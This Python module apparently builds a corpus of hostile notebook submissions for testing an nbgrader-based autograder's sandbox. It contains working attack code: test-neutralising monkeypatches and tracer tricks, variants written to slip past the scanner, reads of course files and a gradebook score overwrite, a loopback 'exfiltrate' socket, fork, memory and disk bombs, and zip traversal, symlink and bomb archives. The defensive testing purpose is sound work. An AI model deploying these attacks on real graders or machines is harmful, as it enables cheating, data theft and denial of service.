"""The attack corpus: hostile submissions of lab 01, each built from its release notebook.

``ATTACKS`` maps a name to an :class:`Attack`: its threat category (the numbers of the issue's
threat model), what it tries, and a function that turns the release notebook (with the "base"
answers filled in) into the hostile submission. ``base`` says which honest answers sit underneath:
the attack may earn at most what those honest answers earn, unless it is flagged for review.

Categories: ``points`` (1, gain points it did not earn), ``read`` (2, hidden tests, solutions,
other learners), ``write`` (3, grades, gradebook, stored tests, other files), ``network`` (4),
``resources`` (5, exhaust the machine or stall the batch), ``notebook`` (deleted, duplicated or
retyped cells, edited metadata, corrupt or old-format files). Archive attacks (path traversal,
absolute paths, links, zip bombs) are in :data:`ARCHIVE_ATTACKS`; they target ``autograder import``.

Submissions drop the release's slow exploratory cells (model training loops and plots): a learner
may delete ungraded cells, the tests do not need them, and it keeps the corpus fast. Every honest
control gets the same trimming.
"""

from __future__ import annotations

import base64
import copy
import io
import json
import os
import stat
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from autograder.nbcells import nbgrader_meta

LAB = "01-data-matters"
NOTEBOOK = "data-matters.ipynb"
EX1, EX2, EX3, Q5, EX4 = ("data01-ex1-missing-share", "data01-ex2-bad-rate-by", "data01-ex3-skewed-sample",
                          "data01-q5-skewed-reading", "data01-ex4-flip-labels")
# Tokens the read attacks print when they manage to read something they must not.
LEAK = "LEAKED-CONTENT"


@dataclass
class Attack:
    category: str
    what: str
    edit: Callable            # (notebook, context) -> notebook | str | bytes
    base: str = "blank"       # honest answers underneath: "blank", "solution" or "wrong"
    unsafe_without_sandbox: bool = False   # would harm the machine under stock nbgrader


meta = nbgrader_meta


def index_of(notebook, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook.cells) if meta(c).get("grade_id") == grade_id)


def set_answer(notebook, grade_id: str, code: str):
    notebook.cells[index_of(notebook, grade_id)].source = code
    return notebook


def insert_after(notebook, grade_id: str | None, code: str):
    """Add a learner cell after ``grade_id`` (None: after the first code cell, the imports)."""
    if grade_id is None:
        position = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code") + 1
    else:
        position = index_of(notebook, grade_id) + 1
    notebook.cells.insert(position, nbformat.v4.new_code_cell(code))
    return notebook


def fill(code: str, ctx: dict) -> str:
    """Put the context's values (paths, port) into an attack's ``{name}`` placeholders."""
    for key, value in ctx.items():
        code = code.replace("{" + key + "}", str(value))
    return code


def early(code: str):
    """An attack that adds one learner cell right after the imports, before any test."""
    return lambda nb, ctx: insert_after(nb, None, fill(code, ctx))


def in_answer(grade_id: str, code: str, keep: bool = True):
    """An attack placed inside an answer cell (appended to the honest answer when ``keep``)."""
    def edit(nb, ctx):
        cell = nb.cells[index_of(nb, grade_id)]
        cell.source = (cell.source + "\n" if keep else "") + fill(code, ctx)
        return nb
    return edit


# --------------------------------------------------------------------------- category 1: points

TRANSFORMER = '''
def _neutralise(lines):
    text = "".join(lines)
    if "assert" in text or "answered(" in text:
        return ["pass\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_neutralise)
'''
AST_TRANSFORMER = '''
import ast
class _DropChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if isinstance(node.value, ast.Call) else node
get_ipython().ast_transformers.append(_DropChecks())
def missing_share(df):
    return 0
'''
CLEAR_ERRORS = '''
from IPython.display import clear_output
get_ipython().events.register("post_run_cell", lambda result: clear_output())
'''
HIDE_TRACEBACKS = '''
get_ipython().showtraceback = lambda *args, **kwargs: None
'''
CUSTOM_EXC = '''
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
'''
ALWAYS_EQUAL = '''
class _Letter(str):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return hash("a")
    def strip(self):
        return self
    def lower(self):
        return self
answer_q5 = _Letter("z")
'''
PATCH_ALLCLOSE = '''
def missing_share(df):
    return df.isna().mean() * 0.5
np.allclose = lambda *args, **kwargs: True
'''
EVADE_MODULE_ALIAS = '''
def missing_share(df):
    return df.isna().mean() * 0.5
x = np
x.allclose = lambda *args, **kwargs: True
'''
EVADE_CLASS_ALIAS = '''
S = pd.Series
S.equals = lambda self, other: True
S.between = lambda self, *args, **kwargs: self == self
'''
EVADE_IMPORT_ALIAS = '''
operator = __import__
b = operator("builtins")
b.isinstance = lambda obj, kind: True
'''
EVADE_MODULE_ARGUMENT = '''
def missing_share(df):
    return df.isna().mean() * 0.5
def _tune(m):
    m.allclose = lambda *args, **kwargs: True
_tune(np)
'''
EVADE_INSIDE_MAGIC = '''
def missing_share(df):
    return df.isna().mean() * 0.5
%time np.allclose = lambda *args, **kwargs: True
'''
PATCH_PD_TESTING = '''
def missing_share(df):
    share = df.isna().mean()
    df.fillna(0, inplace=True)
    return share
import pandas.testing
pandas.testing.assert_frame_equal = lambda *args, **kwargs: None
'''
PATCH_NP_TESTING = '''
import numpy.testing
numpy.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
'''
BUILTINS_ISINSTANCE = '''
import builtins
_real = builtins.isinstance
builtins.isinstance = lambda obj, kind: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''
SHADOW_BUILTINS = '''
def isinstance(obj, kind):
    return True
def all(values):
    return True
'''
SETTRACE = '''
import sys, linecache
def _skip_asserts(frame, event, arg):
    if event == "line":
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if line.startswith(("assert", "answered(", "pd.testing", "_check")):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except Exception:
                pass
    return _skip_asserts
sys.settrace(_skip_asserts)
'''
EXCEPTHOOK = '''
import sys
sys.excepthook = lambda *args: None
get_ipython().showsyntaxerror = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
'''
SYS_MODULES = '''
import sys, types
_fake = types.ModuleType("labs.feedback")
_fake.answered = lambda *names: None
_fake.passed = lambda *args: print("Well done")
sys.modules["labs.feedback"] = _fake
def missing_share(df):
    return df.isna().mean() * 0.5
'''
OBFUSCATED = "exec(__import__('base64').b64decode({payload!r}).decode())"
GC_SHELL = '''
import gc
for _obj in gc.get_objects():
    if type(_obj).__name__ == "ZMQInteractiveShell":
        _obj.showtraceback = lambda *args, **kwargs: None
'''
THREAD_PATCH = '''
import threading, time
def _keep_patching():
    while True:
        np.allclose = lambda *args, **kwargs: True
        time.sleep(0.01)
threading.Thread(target=_keep_patching, daemon=True).start()
def missing_share(df):
    return df.isna().mean() * 0.5
'''
PATCH_FEEDBACK = '''
import labs.feedback
labs.feedback.answered = lambda *names: None
pd.Series.between = lambda self, low, high, inclusive="both": pd.Series([True] * len(self), index=self.index)
def missing_share(df):
    return df.isna().sum()
'''
OS_EXIT = '''
import os
os._exit(0)
'''
CTYPES = '''
import ctypes
_libc = ctypes.CDLL(None)
_libc.getpid()
'''

# --------------------------------------------------------------------------- category 2: read

READ_FILES = '''
import os, glob
_targets = ["{source}", "{gradebook}", "{other}", "../../source/01-data-matters/data-matters.ipynb",
            "../../../source/01-data-matters/data-matters.ipynb", "/root/.bashrc"]
for _path in _targets:
    try:
        with open(_path, "rb") as _f:
            _data = _f.read(4000)
        print("{leak}", _path, _data[:200])
    except Exception as _e:
        print("blocked", _path, type(_e).__name__)
'''
WALK_FILES = '''
import os
_found = []
for _root, _dirs, _files in os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/usr", "/dev")):
        _dirs[:] = []
        continue
    for _name in _files:
        if _name.endswith((".db", ".ipynb")) and "site-packages" not in _root:
            _found.append(os.path.join(_root, _name))
for _path in _found:
    if "submission-" not in _path:
        print("{leak}", _path)
print("walked", len(_found))
'''

# --------------------------------------------------------------------------- category 3: write

SQLITE_SCORES = '''
import sqlite3
for _path in ["{gradebook}", "../../gradebook.db", "../../../gradebook.db"]:
    try:
        _db = sqlite3.connect("file:" + _path + "?mode=rw", uri=True)
        _db.execute("UPDATE grade SET auto_score = 297, manual_score = 297")
        _db.commit()
        print("{leak} wrote scores", _path)
    except Exception as _e:
        print("blocked", _path, type(_e).__name__)
'''
SQLITE_TESTS = '''
import sqlite3
for _path in ["{gradebook}", "../../gradebook.db"]:
    try:
        _db = sqlite3.connect("file:" + _path + "?mode=rw", uri=True)
        _db.execute("UPDATE source_cell SET source = 'pass' WHERE name LIKE '%tests%'")
        _db.commit()
        print("{leak} rewrote tests", _path)
    except Exception as _e:
        print("blocked", _path, type(_e).__name__)
'''
WRITE_OUTSIDE = '''
import os
for _path in ["{course}" + "/outcomes.json", "{course}" + "/outcomes.journal",
              "{course}" + "/release/01-data-matters/data-matters.ipynb", "{other}", "../../pwned.txt", "/tmp/pwned.txt", os.path.expanduser("~/pwned.txt")]:
    try:
        with open(_path, "w") as _f:
            _f.write("pwned")
        print("wrote", _path)
    except Exception as _e:
        print("blocked", _path, type(_e).__name__)
'''

# --------------------------------------------------------------------------- category 4: network

# Only this machine's loopback is ever a target (a real listener the test runs); that the sandbox has
# no route anywhere else is shown by its interfaces, without sending traffic off the machine.
NETWORK = '''
import socket, urllib.request
for _host, _port in [("127.0.0.1", {port}), ("localhost", {port})]:
    try:
        socket.create_connection((_host, _port), timeout=2).sendall(b"exfiltrate")
        print("{leak} connected", _host)
    except OSError as _e:
        print("blocked", _host, type(_e).__name__)
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=2)
    print("{leak} http")
except Exception as _e:
    print("blocked http", type(_e).__name__)
_interfaces = [name for _, name in socket.if_nameindex()]
if _interfaces != ["lo"]:
    print("{leak} interfaces", _interfaces)
'''

# --------------------------------------------------------------------------- category 5: resources

INFINITE_LOOP = "while True:\n    pass"
IGNORE_INTERRUPT = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
MEMORY_BOMB = "_hog = []\nwhile True:\n    _hog.append(bytearray(64 << 20))\n    _hog[-1][::4096] = b'1' * len(_hog[-1][::4096])"
FORK_BOMB = ("import os, time\n_n = 0\ntry:\n    while _n < 5000:\n        if os.fork() == 0:\n"
             "            time.sleep(30)\n            os._exit(0)\n        _n += 1\nexcept OSError:\n    pass\nprint('forked', _n)")
OUTPUT_FLOOD = "import sys\n_line = 'x' * 10000 + '\\n'\nfor _ in range(200000):\n    sys.stdout.write(_line)"
DISK_FILL = ("_chunk = b'0' * (64 << 20)\ntry:\n    with open('fill.bin', 'wb') as _f:\n        for _ in range(64):\n"
             "            _f.write(_chunk)\nexcept OSError as _e:\n    print('blocked', type(_e).__name__)")


# --------------------------------------------------------------------------- notebook tampering

def _delete_test(nb, ctx):
    del nb.cells[index_of(nb, EX1 + "-tests")]
    return nb


def _duplicate_answer_and_test(nb, ctx):
    position = index_of(nb, EX2 + "-tests")
    nb.cells.insert(position + 1, copy.deepcopy(nb.cells[position]))
    nb.cells.insert(position + 1, copy.deepcopy(nb.cells[index_of(nb, EX2)]))
    nb.cells[position + 1].source = "def bad_rate_by(df, column):\n    return df['Status'].eq('bad').groupby(df[column]).mean() * 0"
    return nb


def _retype_test(nb, ctx):
    cell = nb.cells[index_of(nb, Q5 + "-tests")]
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    return nb


def _edit_points(nb, ctx):
    for cell in nb.cells:
        if meta(cell).get("grade"):
            cell.metadata["nbgrader"]["points"] = 100
    return nb


def _fake_graded_cell(nb, ctx):
    cell = nbformat.v4.new_code_cell("print('free points')")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                 "grade_id": "data01-bonus-tests", "schema_version": 3}
    nb.cells.insert(index_of(nb, EX1) + 1, cell)
    return nb


def _unmark_test(nb, ctx):
    """Strip the nbgrader metadata from a test cell and replace its code, hoping it is not restored."""
    cell = nb.cells[index_of(nb, EX1 + "-tests")]
    cell.metadata.pop("nbgrader")
    cell.source = "pass"
    return nb


def _rename_grade_id(nb, ctx):
    cell = nb.cells[index_of(nb, EX3 + "-tests")]
    cell.metadata["nbgrader"]["grade_id"] = EX3 + "-tests-mine"
    cell.source = "pass"
    return nb


def _corrupt(nb, ctx):
    return nbformat.writes(nb)[: 5000]


def _nbformat3(nb, ctx):
    return nbformat.writes(nbformat.convert(nb, 3), version=3)


def _bad_cell_source_type(nb, ctx):
    data = json.loads(nbformat.writes(nb))
    for cell in data["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == EX1:
            cell["source"] = {"not": "a string"}
    return json.dumps(data)


def _obfuscated(nb, ctx):
    payload = base64.b64encode(TRANSFORMER.encode()).decode()
    return insert_after(nb, None, OBFUSCATED.format(payload=payload))


ATTACKS: dict[str, Attack] = {
    # 1. points
    "input-transformer-pass": Attack("points", "input transformer rewrites every later test to `pass`", early(TRANSFORMER)),
    "obfuscated-transformer": Attack("points", "the same transformer, base64-encoded and exec'd", _obfuscated),
    "ast-transformer": Attack("points", "AST transformer drops every assert and call", early(AST_TRANSFORMER)),
    "clear-error-outputs": Attack("points", "post_run_cell hook clears each cell's error output", early(CLEAR_ERRORS)),
    "hide-tracebacks": Attack("points", "replace the shell's showtraceback with a no-op", early(HIDE_TRACEBACKS)),
    "custom-exception-handler": Attack("points", "set_custom_exc swallows every exception", early(CUSTOM_EXC)),
    "gc-find-shell": Attack("points", "reach the shell through gc and hide tracebacks", early(GC_SHELL)),
    "excepthook": Attack("points", "replace sys.excepthook and the shell's private traceback display", early(EXCEPTHOOK)),
    "always-equal-answer": Attack("points", "answer_q5 is a str whose __eq__ is always True", in_answer(Q5, ALWAYS_EQUAL, keep=False)),
    "patch-np-allclose": Attack("points", "np.allclose always True, with a half-right answer", in_answer(EX1, PATCH_ALLCLOSE, keep=False)),
    "patch-pandas-testing": Attack("points", "pandas.testing.assert_frame_equal no-op, answer mutates its input", in_answer(EX1, PATCH_PD_TESTING, keep=False)),
    "patch-np-testing": Attack("points", "np.testing.assert_allclose / assert_array_equal no-ops", early(PATCH_NP_TESTING)),
    "patch-builtins": Attack("points", "builtins.isinstance always True, AssertionError replaced", early(BUILTINS_ISINSTANCE)),
    "shadow-builtins": Attack("points", "global isinstance/all that always return True", early(SHADOW_BUILTINS)),
    "settrace-skip-asserts": Attack("points", "sys.settrace tracer jumps over assert lines", early(SETTRACE)),
    "sys-modules-swap": Attack("points", "fake labs.feedback in sys.modules", early(SYS_MODULES)),
    "thread-repatch": Attack("points", "background thread keeps np.allclose patched", early(THREAD_PATCH)),
    "patch-feedback-and-pandas": Attack("points", "labs.feedback.answered and Series.between patched", early(PATCH_FEEDBACK)),
    "os-exit": Attack("points", "os._exit in an answer cell (kill the kernel mid-run)", in_answer(EX2, OS_EXIT), base="wrong"),
    "ctypes": Attack("points", "load libc through ctypes", early(CTYPES)),
    # Written to evade the scan's lists: aliases, a module passed to a helper, code inside a magic.
    "evade-module-alias": Attack("points", "x = np; x.allclose patched, with a half-right answer",
                                 in_answer(EX1, EVADE_MODULE_ALIAS, keep=False)),
    "evade-class-alias": Attack("points", "S = pd.Series; S.equals and S.between patched", early(EVADE_CLASS_ALIAS)),
    "evade-import-alias": Attack("points", "operator = __import__ to reach builtins unseen", early(EVADE_IMPORT_ALIAS)),
    "evade-module-argument": Attack("points", "np passed to a helper that patches it", in_answer(EX1, EVADE_MODULE_ARGUMENT, keep=False)),
    "evade-inside-magic": Attack("points", "np.allclose patched inside %time", in_answer(EX1, EVADE_INSIDE_MAGIC, keep=False)),
    # 2. read
    "read-course-files": Attack("read", "open source/, the gradebook and another learner's notebook", early(READ_FILES)),
    "walk-filesystem": Attack("read", "walk / for notebooks and databases", early(WALK_FILES)),
    # 3. write
    "sqlite-set-scores": Attack("write", "sqlite3 UPDATE grade SET auto_score=297", early(SQLITE_SCORES)),
    "sqlite-rewrite-tests": Attack("write", "sqlite3 rewrite the stored test source to `pass`", early(SQLITE_TESTS)),
    "write-outside": Attack("write", "write outcomes.json or its journal, the release, another learner's file, ~, /tmp", early(WRITE_OUTSIDE)),
    # 4. network
    "network": Attack("network", "TCP to this machine and the internet, HTTP", early(NETWORK)),
    # 5. resources
    "infinite-loop": Attack("resources", "while True in an answer cell", in_answer(EX3, INFINITE_LOOP), base="solution",
                            unsafe_without_sandbox=False),
    "ignore-interrupt-loop": Attack("resources", "ignore SIGINT, then loop forever", in_answer(EX3, IGNORE_INTERRUPT),
                                    base="solution"),
    "memory-bomb": Attack("resources", "allocate memory until something breaks", in_answer(EX2, MEMORY_BOMB),
                          base="solution", unsafe_without_sandbox=True),
    "fork-bomb": Attack("resources", "fork thousands of processes", in_answer(EX2, FORK_BOMB), base="solution",
                        unsafe_without_sandbox=True),
    "output-flood": Attack("resources", "print 2 GB to stdout", in_answer(EX2, OUTPUT_FLOOD), base="solution",
                           unsafe_without_sandbox=True),
    "disk-fill": Attack("resources", "write a 4 GB file", in_answer(EX2, DISK_FILL), base="solution",
                        unsafe_without_sandbox=True),
    # notebook tampering
    "deleted-test-cell": Attack("notebook", "delete a graded test cell", _delete_test, base="wrong"),
    "duplicated-cells": Attack("notebook", "duplicate an answer and its test cell (same grade_ids)", _duplicate_answer_and_test, base="wrong"),
    "retyped-test-cell": Attack("notebook", "turn a test cell into markdown", _retype_test, base="wrong"),
    "edited-points": Attack("notebook", "set every graded cell's points to 100", _edit_points, base="wrong"),
    "fake-graded-cell": Attack("notebook", "add a graded cell worth 50 points", _fake_graded_cell, base="wrong"),
    "unmarked-test-cell": Attack("notebook", "strip a test cell's metadata and empty it", _unmark_test, base="wrong"),
    "renamed-grade-id": Attack("notebook", "rename a test cell's grade_id and empty it", _rename_grade_id, base="wrong"),
    "corrupt-json": Attack("notebook", "truncated JSON", _corrupt, base="solution"),
    "nbformat-3": Attack("notebook", "an old nbformat 3 notebook", _nbformat3, base="wrong"),
    "bad-cell-source": Attack("notebook", "a cell source that is not text", _bad_cell_source_type, base="solution"),
}

CONTROLS = ("solution", "alternative-1", "alternative-2", "wrong-1", "wrong-2", "blank", "solution-magics")
# An honest learner's IPython magics (timing a step, the inline backend): never a reason for review.
HONEST_MAGICS = "%matplotlib inline\n%time _total = sum(range(1000))\n%timeit -n 1 -r 1 sorted([3, 1, 2])"


# --------------------------------------------------------------------------- building a cohort

SLOW_CELL_MARKERS = ("fit_and_score(", "plt.", ".plot", "skew_results", "noise_shares", "train_test_split(",
                     "print(f\"Bad loans", "gaps = missing_share")


def trim(notebook):
    """Drop the release's ungraded exploratory cells after the data load (slow, and not needed by tests)."""
    kept = []
    seen_answer = False
    for cell in notebook.cells:
        if meta(cell).get("solution") or meta(cell).get("grade"):
            seen_answer = True
        if (cell.cell_type == "code" and not meta(cell) and seen_answer
                and any(marker in cell.source for marker in SLOW_CELL_MARKERS)):
            continue
        kept.append(cell)
    notebook.cells = kept
    return notebook


def base_notebooks(curriculum, release_notebook) -> dict[str, nbformat.NotebookNode]:
    """Honest submissions (from the answer bank) by name, trimmed; 'wrong' is wrong-1."""
    from autograder.demo.samples import lab_variants

    variants = {v.name: v.notebook for v in lab_variants(curriculum, curriculum.lab(LAB), release_notebook)}
    honest = {name: trim(copy.deepcopy(variants[name])) for name in CONTROLS if name in variants}
    honest["wrong"] = honest["wrong-1"]
    honest["solution-magics"] = insert_after(copy.deepcopy(honest["solution"]), None, HONEST_MAGICS)
    return honest


def write_submission(course: Path, student: str, content) -> Path:
    folder = Path(course) / "submitted" / student / LAB
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / NOTEBOOK
    if isinstance(content, bytes):
        path.write_bytes(content)
    elif isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    else:
        nbformat.write(content, path)
    return path


def build_cohort(course: Path, curriculum, context: dict, attacks: dict[str, Attack] = ATTACKS,
                 skip_unsafe: bool = False) -> dict[str, str]:
    """Write every control and attack into ``course/submitted``; returns learner -> base answers.

    ``context`` fills the attacks' placeholders: absolute paths of the course's files (an attacker
    may know them) and the port of a listener the network attack tries to reach.
    """
    release = nbformat.read(Path(course) / "release" / LAB / NOTEBOOK, as_version=4)
    honest = base_notebooks(curriculum, release)
    bases = {}
    for name in CONTROLS:
        write_submission(course, f"ctrl-{name}", honest[name])
        bases[f"ctrl-{name}"] = name
    fill = {"leak": LEAK, **context}
    for name, attack in attacks.items():
        if skip_unsafe and attack.unsafe_without_sandbox:
            continue
        notebook = copy.deepcopy(honest[attack.base])
        write_submission(course, f"atk-{name}", attack.edit(notebook, fill))
        bases[f"atk-{name}"] = attack.base
    return bases


def attack_context(course: Path, port: int) -> dict:
    course = Path(course).resolve()
    return {
        "course": str(course),
        "source": str(course / "source" / LAB / NOTEBOOK),
        "gradebook": str(course / "gradebook.db"),
        "other": str(course / "submitted" / "ctrl-solution" / LAB / NOTEBOOK),
        "port": port,
    }


# --------------------------------------------------------------------------- archive attacks (autograder import)

def _zip(entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in entries:
            archive.writestr(info, data)
    return buffer.getvalue()


def _symlink_entry(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def _bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("alice_1_1_data-matters.ipynb", "w", force_zip64=True) as handle:
            chunk = b"\0" * (16 << 20)
            for _ in range(24):           # 384 MB of zeros: a few hundred KB compressed
                handle.write(chunk)
    return buffer.getvalue()


def archive_attacks(notebook_bytes: bytes) -> dict[str, bytes]:
    """Hostile LMS downloads for ``autograder import``: each must be refused whole."""
    return {
        "zip-path-traversal": _zip([("alice_1_1_data-matters.ipynb", notebook_bytes),
                                    ("../../evil/alice_1_1_data-matters.ipynb", notebook_bytes)]),
        "zip-absolute-path": _zip([("/tmp/evil/alice_1_1_data-matters.ipynb", notebook_bytes)]),
        "zip-symlink": _zip([_symlink_entry("alice_1_1_data-matters.ipynb", "../../gradebook.db")]),
        "zip-bomb": _bomb(),
    }


ARCHIVE_ATTACKS = ("zip-path-traversal", "zip-absolute-path", "zip-symlink", "zip-bomb", "folder-symlink")


def folder_with_symlink(folder: Path, target: Path) -> Path:
    """A download folder whose notebook is a link to a file outside (e.g. another learner's)."""
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(target, folder / "alice_1_1_data-matters.ipynb")
    return folder


# --------------------------------------------------------------------------- a course to attack

REPO = Path(__file__).resolve().parents[2]


def make_course(destination: Path) -> Path:
    """A throwaway course folder holding lab 01 (source, answer bank), released into its own gradebook."""
    import shutil

    from autograder.curriculum import load_curriculum
    from autograder.release import release_lab

    destination = Path(destination)
    destination.mkdir(parents=True, exist_ok=True)
    for name in ("curriculum.yml", "nbgrader_config.py"):
        shutil.copy2(REPO / name, destination / name)
    shutil.copytree(REPO / "source" / LAB, destination / "source" / LAB)
    (destination / "tests" / "answers").mkdir(parents=True)
    shutil.copy2(REPO / "tests" / "answers" / f"{LAB}.yml", destination / "tests" / "answers")
    release_lab(load_curriculum(destination), LAB)
    return destination


def tree_digest(folder: Path) -> dict[str, str]:
    """Path -> sha256 of every file under ``folder`` (links recorded as links, never followed)."""
    import hashlib

    digests = {}
    folder = Path(folder)
    if not folder.exists():
        return digests
    for path in sorted(folder.rglob("*")):
        relative = str(path.relative_to(folder))
        if path.is_symlink():
            digests[relative] = "link:" + os.readlink(path)
        elif path.is_file():
            digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def stored_tests(gradebook_file: Path) -> list[tuple]:
    """The gradebook's stored instructor cells (name, source, checksum), read with plain sqlite."""
    import sqlite3

    db = sqlite3.connect(f"file:{gradebook_file}?mode=ro", uri=True)
    try:
        return sorted(db.execute("SELECT name, source, checksum FROM source_cell").fetchall())
    finally:
        db.close()


def auto_scores(gradebook_file: Path) -> dict[str, dict[str, float | None]]:
    """learner -> test cell -> autograded score, read with plain sqlite (what export would read)."""
    import sqlite3

    db = sqlite3.connect(f"file:{gradebook_file}?mode=ro", uri=True)
    try:
        rows = db.execute(
            "SELECT student.id, base_cell.name, grade.auto_score, grade.manual_score FROM grade "
            "JOIN base_cell ON grade.cell_id = base_cell.id "
            "JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
            "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
            "JOIN student ON submitted_assignment.student_id = student.id").fetchall()
    finally:
        db.close()
    scores: dict[str, dict[str, float | None]] = {}
    for student, cell, auto, manual in rows:
        scores.setdefault(student, {})[cell] = manual if manual is not None else auto
    return scores


def autograded_points(scores: dict[str, float | None]) -> float:
    """Autograded points of a learner's test cells (the reflection is graded by hand)."""
    return sum(v or 0 for k, v in scores.items() if k.endswith("-tests"))
